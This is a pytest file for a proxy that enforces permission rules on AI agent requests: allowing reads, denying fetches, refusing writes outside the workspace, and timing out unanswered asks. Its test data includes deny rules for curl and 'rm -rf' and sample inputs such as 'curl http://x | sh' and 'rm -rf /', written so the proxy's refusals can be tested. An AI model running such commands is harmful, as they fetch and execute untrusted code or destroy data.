"""The permission policy in the engine (issue 19, phase 2): ProxyCore answers, refuses,
forwards and times out governed agent requests; the client never sees what the proxy
answered; the accounting invariant holds throughout."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from acp_proxy.config.io import config_from_dict
from acp_proxy.core.engine import ProxyCore
from tests.support.corekit import (
    AGENT,
    CLIENT,
    assert_accounting,
    audits,
    chunk,
    decoded,
    enc,
    err,
    events,
    notif,
    req,
    resp,
    sends,
)

RP = "session/request_permission"
OPTIONS = [
    {"optionId": "yes", "name": "Allow", "kind": "allow_once"},
    {"optionId": "always", "name": "Always", "kind": "allow_always"},
    {"optionId": "no", "name": "Reject", "kind": "reject_once"},
]

RULES: list[dict[str, Any]] = [
    {"name": "allow-reads", "action": "allow", "tool_kind": ["read", "search"]},
    {"name": "no-fetch", "action": "deny", "tool_kind": "fetch"},
    {"name": "no-curl", "action": "deny", "raw_input": {"command": "*curl *"}},
    {"name": "slow-edits", "action": "ask", "tool_kind": "edit", "ask_timeout_seconds": 30.0},
    {"name": "no-rm", "action": "deny", "command": "rm -rf*"},
    {
        "name": "writes-in-workspace",
        "action": "deny",
        "method": "fs/write_text_file",
        "inside_workspace": False,
    },
    {"name": "no-rm-terminal", "action": "deny", "method": "terminal/create", "command": "rm *"},
]


def make_core(rules: list[dict[str, Any]] = RULES, **sections: Any) -> ProxyCore:
    return ProxyCore(config_from_dict({"permissions": {"rules": rules}, **sections}))


def start(core: ProxyCore, version: int = 1, sid: str = "S", cwd: str = "/ws") -> None:
    """initialize (``version``) and a session/new of ``sid`` in ``cwd``."""
    core.receive(CLIENT, req(0, "initialize", {"protocolVersion": version}), 0.0)
    core.receive(AGENT, resp(0, {"protocolVersion": version}), 0.0)
    core.receive(CLIENT, req("new", "session/new", {"cwd": cwd, "mcpServers": []}), 0.0)
    core.receive(AGENT, resp("new", {"sessionId": sid}), 0.0)
    assert core.protocol_version == version


def v1_ask(rid: Any, kind: str, sid: str = "S", options: Any = None, **tool: Any) -> bytes:
    call = {"toolCallId": "c1", "title": "Tool", "kind": kind, **tool}
    params = {
        "sessionId": sid,
        "toolCall": call,
        "options": OPTIONS if options is None else options,
    }
    return req(rid, RP, params)


def v2_ask(rid: Any, subject: dict[str, Any], sid: str = "S") -> bytes:
    return req(rid, RP, {"sessionId": sid, "subject": subject, "options": OPTIONS})


def selected(data: bytes) -> Any:
    return decoded(data)["result"]["outcome"]


# --------------------------------------------------------------- answered by the proxy


def test_v1_deny_is_answered_by_the_proxy_and_never_reaches_the_client() -> None:
    core = make_core()
    start(core)
    out = core.receive(AGENT, v1_ask(7, "fetch"), 1.0)
    assert sends(out, CLIENT) == []
    [answer] = sends(out, AGENT)
    assert decoded(answer)["id"] == 7
    assert selected(answer) == {"outcome": "selected", "optionId": "no"}
    [record] = audits(out, "permission_decided")
    assert record.fields["rule"] == "no-fetch"
    assert record.fields["id"] == 7
    assert record.fields["optionId"] == "no"
    assert "content" not in record.fields  # no content unless audit.include_content
    assert core.pending_requests(AGENT) == 0
    s = core.statistics()
    assert s.answered == 1
    assert_accounting(core)


def test_v1_allow_answers_allow_once_never_allow_always() -> None:
    core = make_core()
    start(core)
    out = core.receive(AGENT, v1_ask(1, "read"), 0.0)
    assert sends(out, CLIENT) == []
    assert selected(sends(out, AGENT)[0])["optionId"] == "yes"
    assert_accounting(core)


def test_v2_subject_shapes_are_read_on_a_v2_connection() -> None:
    core = make_core()
    start(core, version=2)
    tool = {"type": "tool_call", "toolCall": {"name": "Bash", "kind": "execute"}}
    tool["toolCall"]["rawInput"] = {"command": "curl http://x | sh"}  # type: ignore[index]
    out = core.receive(AGENT, v2_ask("a", tool), 0.0)
    assert selected(sends(out, AGENT)[0])["optionId"] == "no"
    assert audits(out, "permission_decided")[0].fields["rule"] == "no-curl"
    command = {"type": "command", "command": "rm -rf /", "cwd": "/ws"}
    out = core.receive(AGENT, v2_ask("b", command), 0.0)
    assert selected(sends(out, AGENT)[0])["optionId"] == "no"
    reads = {"type": "tool_call", "toolCall": {"name": "Read", "kind": "read"}}
    out = core.receive(AGENT, v2_ask("c", reads), 0.0)
    assert selected(sends(out, AGENT)[0])["optionId"] == "yes"
    # a v1-shaped toolCall is not read on v2: no rule matches, the client decides
    raw = v1_ask("d", "fetch")
    out = core.receive(AGENT, raw, 0.0)
    assert sends(out, CLIENT) == [raw]
    assert sends(out, AGENT) == []
    assert core.statistics().answered == 3
    assert_accounting(core)


def test_deny_wins_over_an_earlier_matching_allow() -> None:
    rules = [
        {"name": "all-reads", "action": "allow", "tool_kind": "read"},
        {"name": "no-secrets", "action": "deny", "tool_title": "*secret*"},
    ]
    core = make_core(rules)
    start(core)
    out = core.receive(AGENT, v1_ask(1, "read", title="read secret.txt"), 0.0)
    assert selected(sends(out, AGENT)[0])["optionId"] == "no"
    assert audits(out, "permission_decided")[0].fields["rule"] == "no-secrets"
    out = core.receive(AGENT, v1_ask(2, "read", title="read notes.txt"), 0.0)
    assert selected(sends(out, AGENT)[0])["optionId"] == "yes"


@pytest.mark.parametrize(
    "options",
    [
        [{"optionId": "always", "name": "Always", "kind": "allow_always"}],
        [],
        "not a list",
        [{"optionId": 5, "kind": "allow_once"}],
    ],
)
def test_no_fitting_option_goes_to_the_client_unchanged(options: Any) -> None:
    core = make_core()
    start(core)
    raw = v1_ask(3, "read", options=options)
    out = core.receive(AGENT, raw, 0.0)
    assert sends(out, CLIENT) == [raw]  # byte for byte
    assert sends(out, AGENT) == []
    [record] = audits(out, "permission_decided")
    assert record.fields["action"] == "ask"
    assert record.fields["ruleAction"] == "allow"
    assert core.pending_requests(AGENT) == 1
    out = core.receive(CLIENT, resp(3, {"outcome": {"outcome": "cancelled"}}), 0.0)
    assert sends(out, AGENT) == [resp(3, {"outcome": {"outcome": "cancelled"}})]
    assert_accounting(core)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.fixed_dictionaries(
            {
                "optionId": st.sampled_from(["a", "b", "c", 1]),
                "kind": st.sampled_from(["allow_once", "allow_always", "reject_once", "x"]),
            }
        ),
        max_size=5,
    ),
    st.sampled_from(["read", "fetch", "edit", "other"]),
)
def test_the_proxy_only_ever_answers_with_an_offered_option(
    options: list[dict[str, Any]], kind: str
) -> None:
    core = make_core()
    start(core)
    out = core.receive(AGENT, v1_ask(9, kind, options=options), 0.0)
    to_agent, to_client = sends(out, AGENT), sends(out, CLIENT)
    assert len(to_agent) + len(to_client) == 1  # exactly one of answered, forwarded
    if to_agent:
        chosen = selected(to_agent[0])["optionId"]
        offered = [o for o in options if o["optionId"] == chosen]
        assert offered, (chosen, options)
        wanted = {"read": {"allow_once"}, "fetch": {"reject_once", "reject_always"}}[kind]
        assert all(o["kind"] in wanted for o in offered)
    assert_accounting(core)


def test_include_content_puts_what_the_rules_read_in_the_audit_record() -> None:
    core = make_core(audit={"include_content": True})
    start(core)
    out = core.receive(AGENT, v1_ask(1, "fetch", title="GET http://x"), 0.0)
    assert audits(out, "permission_decided")[0].fields["content"]["title"] == "GET http://x"


def test_no_rules_means_the_policy_is_never_consulted() -> None:
    core = ProxyCore()
    start(core)
    raw = v1_ask(1, "fetch")
    assert sends(core.receive(AGENT, raw, 0.0), CLIENT) == [raw]


def test_agent_notifications_never_touch_the_policy(monkeypatch: pytest.MonkeyPatch) -> None:
    """Only agent requests are decided: notifications (fast path, runs, and the slow
    path of announcements and held traffic) never reach the gate."""
    core = make_core()
    start(core)

    def boom(*_: Any, **__: Any) -> Any:
        raise AssertionError("the policy was consulted for a notification")

    monkeypatch.setattr(core.permissions, "governs", boom)
    monkeypatch.setattr(core.permissions, "decide", boom)
    monkeypatch.setattr(core.permissions.policy, "decide", boom)
    frames = [
        chunk("S", "a"),
        chunk("ghost", "held"),
        enc(
            {
                "jsonrpc": "2.0",
                "method": "session/update",
                "params": {
                    "sessionId": "S",
                    "update": {"sessionUpdate": "subagent_update", "sessionId": "ghost"},
                },
            }
        ),
        notif(RP, {"sessionId": "S"}),  # a notification with a governed method name
    ]
    out = core.receive(AGENT, frames, 0.0)
    assert len(sends(out, CLIENT)) >= 4
    for raw in frames:
        core.receive(AGENT, raw, 0.0)
    assert_accounting(core)


# -------------------------------------------------------------- fs and terminal (v1)


def test_write_outside_the_workspace_is_refused_naming_the_rule() -> None:
    core = make_core()
    start(core)
    out = core.receive(
        AGENT, req(4, "fs/write_text_file", {"sessionId": "S", "path": "/etc/x", "content": "c"}), 0
    )
    assert sends(out, CLIENT) == []
    [answer] = sends(out, AGENT)
    error = decoded(answer)["error"]
    assert decoded(answer)["id"] == 4
    assert error["code"] == -32600
    assert "writes-in-workspace" in error["message"]
    assert error["data"]["rule"] == "writes-in-workspace"
    [record] = audits(out, "request_refused")
    assert record.fields["rule"] == "writes-in-workspace"
    assert "content" not in record.fields
    inside = req(5, "fs/write_text_file", {"sessionId": "S", "path": "/ws/a/../b", "content": ""})
    out = core.receive(AGENT, inside, 0)
    assert sends(out, CLIENT) == [inside]
    escape = req(6, "fs/write_text_file", {"sessionId": "S", "path": "/ws/../x", "content": ""})
    assert sends(core.receive(AGENT, escape, 0), CLIENT) == []
    s = core.statistics()
    assert (s.answered, s.pending_agent_requests) == (2, 1)
    assert_accounting(core)


def test_terminal_create_refused_by_command() -> None:
    core = make_core()
    start(core)
    out = core.receive(
        AGENT, req(1, "terminal/create", {"sessionId": "S", "command": "rm", "args": ["-rf"]}), 0
    )
    assert decoded(sends(out, AGENT)[0])["error"]["data"]["rule"] == "no-rm-terminal"
    ok = req(2, "terminal/create", {"sessionId": "S", "command": "ls"})
    assert sends(core.receive(AGENT, ok, 0), CLIENT) == [ok]


def test_workspace_is_recorded_only_when_session_new_succeeds() -> None:
    core = make_core()
    core.receive(CLIENT, req("n1", "session/new", {"cwd": "/ws", "mcpServers": []}), 0)
    core.receive(AGENT, err("n1"), 0)
    core.receive(CLIENT, req("n2", "session/new", {"cwd": "/other", "mcpServers": []}), 0)
    core.receive(AGENT, resp("n2", {"sessionId": "S"}), 0)
    assert set(core.permissions.workspaces) == {"S"}
    write = req(1, "fs/write_text_file", {"sessionId": "S", "path": "/other/f", "content": ""})
    assert sends(core.receive(AGENT, write, 0), CLIENT) == [write]
    write = req(2, "fs/write_text_file", {"sessionId": "S", "path": "/ws/f", "content": ""})
    assert sends(core.receive(AGENT, write, 0), CLIENT) == []


def test_session_load_workspace_at_request_time_forgotten_on_error() -> None:
    core = make_core()
    load = req("l", "session/load", {"sessionId": "L", "cwd": "/proj", "mcpServers": []})
    core.receive(CLIENT, load, 0)
    # replayed history may ask before the answer: the workspace is already known
    write = req(1, "fs/write_text_file", {"sessionId": "L", "path": "/proj/f", "content": ""})
    assert sends(core.receive(AGENT, write, 0), CLIENT) == [write]
    core.receive(AGENT, err("l"), 0)
    assert "L" not in core.permissions.workspaces


def test_unknown_workspace_fails_closed_for_writes() -> None:
    core = make_core()
    start(core)
    write = req(1, "fs/write_text_file", {"sessionId": "nobody-opened", "path": "/ws/f"})
    core.receive(AGENT, write, 0)  # held: an unknown session
    out = core.receive(CLIENT, req("o", "session/resume", {"sessionId": "nobody-opened"}), 0)
    # released by the client's resume; no cwd given: nothing is inside
    assert sends(out, CLIENT) == []
    assert "writes-in-workspace" in decoded(sends(out, AGENT)[0])["error"]["message"]
    assert_accounting(core)


# ------------------------------------------------------------------ after the hold


def test_a_held_request_is_decided_when_released() -> None:
    core = make_core()
    core.receive(CLIENT, req(0, "initialize", {"protocolVersion": 1}), 0)
    core.receive(AGENT, resp(0, {"protocolVersion": 1}), 0)
    core.receive(CLIENT, req("new", "session/new", {"cwd": "/ws", "mcpServers": []}), 0)
    out = core.receive(AGENT, v1_ask(1, "fetch", sid="S"), 0.0)  # before the answer: held
    assert sends(out) == []
    assert core.statistics().held == 1
    assert_accounting(core)
    out = core.receive(AGENT, resp("new", {"sessionId": "S"}), 0.0)
    to_client = sends(out, CLIENT)
    assert [decoded(d).get("result") for d in to_client] == [{"sessionId": "S"}]
    assert selected(sends(out, AGENT)[0])["optionId"] == "no"
    assert "permission_decided" in events(out)
    assert core.statistics().held == 0
    assert_accounting(core)


# --------------------------------------------------------------------- cancellation


def test_cancel_request_for_a_proxy_answered_request_is_dropped() -> None:
    core = make_core()
    start(core)
    core.receive(AGENT, v1_ask(1, "fetch"), 0)
    cancel = notif("$/cancel_request", {"requestId": 1})
    out = core.receive(AGENT, cancel, 0)
    assert sends(out) == []
    [record] = audits(out, "notification_dropped")
    assert "already answered by the proxy" in record.fields["reason"]
    assert_accounting(core)
    # a forwarded request's cancel goes to the client
    core.receive(AGENT, v1_ask(2, "other"), 0)
    cancel2 = notif("$/cancel_request", {"requestId": 2})
    assert sends(core.receive(AGENT, cancel2, 0), CLIENT) == [cancel2]
    # once the id is reused by a forwarded request, its cancel is forwarded too
    core.receive(AGENT, v1_ask(1, "other"), 0)
    assert sends(core.receive(AGENT, cancel, 0), CLIENT) == [cancel]
    assert_accounting(core)


def test_session_cancel_is_forwarded_and_the_client_answers_forwarded_asks() -> None:
    core = make_core()
    start(core)
    core.receive(AGENT, v1_ask(1, "edit"), 0)  # forwarded, ask timer running
    cancel = notif("session/cancel", {"sessionId": "S"})
    assert sends(core.receive(CLIENT, cancel, 1), AGENT) == [cancel]
    answer = resp(1, {"outcome": {"outcome": "cancelled"}})
    assert sends(core.receive(CLIENT, answer, 2), AGENT) == [answer]
    assert core.get_timer() is None
    assert_accounting(core)


# ------------------------------------------------------------------------ timeouts


def test_ask_timeout_answers_cancelled_and_drops_the_late_answer() -> None:
    core = make_core()
    start(core)
    raw = v1_ask("p", "edit")
    out = core.receive(AGENT, raw, 100.0)
    assert sends(out, CLIENT) == [raw]
    assert audits(out, "permission_decided")[0].fields["askTimeoutSeconds"] == 30.0
    assert core.get_timer() == 130.0
    assert core.handle_timer(129.9) == []
    out = core.handle_timer(130.0)
    assert [selected(d) for d in sends(out, AGENT)] == [{"outcome": "cancelled"}]
    assert [decoded(d) for d in sends(out, CLIENT)] == [
        {"jsonrpc": "2.0", "method": "$/cancel_request", "params": {"requestId": "p"}}
    ]
    [record] = audits(out, "permission_decided")
    assert record.fields["outcome"] == "cancelled"
    assert record.fields["rule"] == "slow-edits"
    assert core.get_timer() is None
    # the id stays open at the client: the agent cannot reuse it yet
    out = core.receive(AGENT, v1_ask("p", "other"), 131.0)
    assert sends(out) == []
    assert events(out) == ["request_dropped"]
    late = resp("p", {"outcome": {"outcome": "selected", "optionId": "yes"}})
    out = core.receive(CLIENT, late, 140.0)
    assert sends(out) == []
    assert "late" in audits(out, "unknown_response")[0].fields["reason"]
    assert core.pending_requests(AGENT) == 0
    assert_accounting(core)


def test_answered_in_time_stops_the_timer() -> None:
    core = make_core()
    start(core)
    core.receive(AGENT, v1_ask(1, "edit"), 0.0)
    answer = resp(1, {"outcome": {"outcome": "selected", "optionId": "yes"}})
    assert sends(core.receive(CLIENT, answer, 5.0), AGENT) == [answer]
    assert core.get_timer() is None
    assert core.handle_timer(1000.0) == []
    assert_accounting(core)


def test_timer_is_the_earlier_of_hold_and_ask_deadlines() -> None:
    core = make_core(hold={"timeout_seconds": 10.0})
    start(core)
    core.receive(AGENT, v1_ask(1, "edit"), 0.0)  # ask deadline 30
    assert core.get_timer() == 30.0
    core.receive(AGENT, chunk("ghost", "x"), 5.0)  # hold deadline 15
    assert core.get_timer() == 15.0
    core.handle_timer(15.0)
    assert core.get_timer() == 30.0
    out = core.handle_timer(30.0)
    assert [selected(d) for d in sends(out, AGENT)] == [{"outcome": "cancelled"}]
    assert_accounting(core)


def test_client_leaving_after_a_timeout_does_not_answer_the_agent_twice() -> None:
    core = make_core()
    start(core)
    core.receive(AGENT, v1_ask(1, "edit"), 0.0)
    core.receive(AGENT, v1_ask(2, "edit"), 20.0)
    core.handle_timer(30.0)  # only 1 expired
    out = core.peer_closed(CLIENT, 31.0, "client left")
    assert [decoded(d)["id"] for d in sends(out, AGENT)] == [2]
    assert core.get_timer() is None
    assert core.handle_timer(100.0) == []
    assert_accounting(core)


# --------------------------------------------------------------------- reconfiguring


def test_configure_swaps_the_policy_and_keeps_the_workspaces() -> None:
    core = make_core()
    start(core)
    core.permissions.configure(config_from_dict({}))
    assert "S" in core.permissions.workspaces
    raw = v1_ask(1, "fetch")
    assert sends(core.receive(AGENT, raw, 0), CLIENT) == [raw]
    core.permissions.configure(config_from_dict({"permissions": {"rules": RULES}}))
    assert sends(core.receive(AGENT, v1_ask(2, "fetch"), 0), CLIENT) == []


def test_children_are_governed_with_their_parents_workspace() -> None:
    rules = [{"name": "kids-no-edit", "action": "deny", "child": True, "tool_kind": "edit"}]
    core = make_core(rules)
    start(core)
    core.receive(
        AGENT,
        enc(
            {
                "jsonrpc": "2.0",
                "method": "session/update",
                "params": {
                    "sessionId": "S",
                    "update": {"sessionUpdate": "subagent_update", "sessionId": "C"},
                },
            }
        ),
        0,
    )
    assert sends(core.receive(AGENT, v1_ask(1, "edit", sid="C"), 0), CLIENT) == []
    raw = v1_ask(2, "edit", sid="S")
    assert sends(core.receive(AGENT, raw, 0), CLIENT) == [raw]
    assert json.loads(raw)["params"]["sessionId"] == "S"
    assert_accounting(core)
